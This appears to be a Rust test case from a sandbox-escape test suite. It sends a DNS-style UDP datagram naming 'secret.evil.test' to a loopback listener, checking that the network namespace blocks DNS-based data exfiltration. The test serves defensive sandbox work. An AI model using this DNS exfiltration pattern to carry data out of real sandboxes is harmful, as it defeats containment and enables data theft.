//! Sends a datagram to a resolver on the host's loopback: DNS carries data out (nono #756).
//!
//! Stopped by: the network namespace.

use super::prelude::*;
use std::net::UdpSocket;

pub const ATTACK: Attack = Attack {
    name: "udp_loopback",
    about: "a DNS question to 127.0.0.1 of the host",
    setup: |fixture| {
        let socket = UdpSocket::bind("127.0.0.1:0").expect("a socket");
        socket.set_nonblocking(true).expect("nonblocking");
        fixture.set("port", &socket.local_addr().expect("an address").port().to_string());
        let thread = socket.try_clone().expect("a copy");
        thread.set_nonblocking(false).expect("blocking");
        thread.set_read_timeout(Some(std::time::Duration::from_secs(4))).expect("a timeout");
        std::thread::spawn(move || {
            let mut question = [0; 64];
            if let Ok((length, from)) = thread.recv_from(&mut question) {
                let _ = thread.send_to(&question[..length], from);
            }
        });
    },
    attack: |env| {
        let ask = || {
            let socket = UdpSocket::bind("0.0.0.0:0")?;
            socket.set_read_timeout(Some(std::time::Duration::from_millis(300)))?;
            socket.send_to(b"\x12\x34\x01\0\0\x01secret.evil.test", format!("127.0.0.1:{}", env.get("port")))?;
            socket.recv_from(&mut [0; 64])
        };
        judge(ask())
    },
    ..Attack::BASE
};
